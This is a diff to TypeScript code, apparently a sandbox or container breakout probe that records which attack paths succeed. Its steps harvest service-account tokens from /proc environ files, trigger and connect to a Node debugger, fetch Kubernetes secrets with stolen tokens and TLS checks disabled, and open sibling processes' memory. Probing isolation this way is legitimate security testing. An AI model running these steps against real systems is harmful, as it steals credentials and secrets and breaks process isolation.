@@ -55,18 +55,14 @@ export async function attack({ apiServer, dials }: Loot): Promise<Reached> {
   for (const pid of pids()) {
     await tokens.each([`/proc/${pid}/root/${ACCOUNT}`, `/proc/${pid}/environ`], 'file', holdsToken);
   }
+  const others = pids().filter((pid) => pid !== process.pid);
   const operator = new Attempts();
-  await operator.each(pids(), 'process', (pid) =>
-    readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('main.js'),
-  );
-  await operator.each([1, process.ppid], 'debugger', signal);
+  await operator.each(others, 'process', (pid) => commandOf(pid).includes('main.js'));
+  await operator.each([1], 'debugger of', signal);
   for (const dial of dials) await operator.each([INSPECTOR], 'debugger', (port) => dial('127.0.0.1', port));
   const server = new Attempts();
-  await server.each(['without a token', ...tokens.reached], 'secrets', (token) =>
-    secretsOf(apiServer, token),
-  );
+  await server.each(['none', ...tokens.reached], 'secrets by', (token) => secretsOf(apiServer, token));
   const siblings = new Attempts();
-  const others = pids().filter((pid) => pid !== process.pid);
   await siblings.each(others, 'memory', (pid) => openSync(`/proc/${pid}/mem`, 'r') > 0);
   await siblings.each(others, 'environment', (pid) => readFileSync(`/proc/${pid}/environ`) !== undefined);
   await siblings.each(others, 'signal', (pid) => process.kill(pid, 0));
@@ -140,6 +136,10 @@ function filesBelow(folder: string): readonly string[] {
   }
 }
 
+function commandOf(pid: number): string {
+  return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
+}
+
 function holdsToken(path: string): boolean {
   return TOKEN.test(readFileSync(path, 'latin1'));
 }
@@ -150,8 +150,10 @@ async function signal(pid: number): Promise<boolean> {
   return within(once(connect(INSPECTOR, '127.0.0.1'), 'connect'));
 }
 
-async function secretsOf(apiServer: string, token: string): Promise<boolean> {
-  const [bearer = ''] = TOKEN.exec(token) ?? [];
+async function secretsOf(apiServer: string, found: string): Promise<boolean> {
+  const [bearer = ''] = found.startsWith('file ')
+    ? (TOKEN.exec(readFileSync(found.slice(5), 'latin1')) ?? [])
+    : [];
   const path = '/api/v1/namespaces/mooring-system/secrets';
   const asked = request(`https://${apiServer}${path}`, {
     rejectUnauthorized: false,
